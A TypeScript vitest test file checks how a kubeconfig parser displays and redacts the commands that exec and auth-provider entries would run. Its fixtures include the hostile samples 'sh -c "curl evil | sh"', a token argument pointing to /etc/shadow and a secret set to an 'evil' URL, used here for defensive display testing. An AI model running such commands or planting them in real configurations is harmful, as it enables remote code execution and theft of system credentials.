import { expect, test } from 'vitest';
import { parseKubeconfig } from '../../../main/kubeconfig/kubeconfig.ts';
import { whatRuns } from '../../../main/kubeconfig/exec-arguments.ts';

const runs = (user: string): string => {
  const [entry] = parseKubeconfig(`users:\n- name: a\n  user: ${user}\n`).users.values();
  return whatRuns(entry!.value);
};

test.each([
  ['{exec: {command: aws, args: [eks, get-token]}}', 'aws eks get-token'],
  ['{exec: {command: sh, args: [-c, "curl evil | sh"]}}', 'sh -c "curl evil | sh"'],
  [
    '{exec: {command: x, args: [--client-secret=abc123, --token, abc123, --name=a]}}',
    'x --client-secret=[secret] --token [secret] --name=a',
  ],
  [
    '{exec: {command: x, args: [--token=/etc/shadow, --secret=https://evil/a]}}',
    'x --token=/etc/shadow --secret=https://evil/a',
  ],
  ['{exec: {command: "a\\u202eb"}}', 'a\\u{202e}b'],
  ['{auth-provider: {name: gcp, config: {cmd-path: /bin/gcloud, cmd-args: config}}}', '/bin/gcloud config'],
  ['{auth-provider: {name: oidc, config: {id-token: abc}}}', ''],
  ['{client-certificate-data: abc}', ''],
])('of %s is %s', (user, words) => {
  expect(runs(user)).toBe(words);
});

test('stays short', () => {
  expect(runs(`{exec: {command: x, args: [${'a'.repeat(100_000)}]}}`).length).toBeLessThan(310);
});
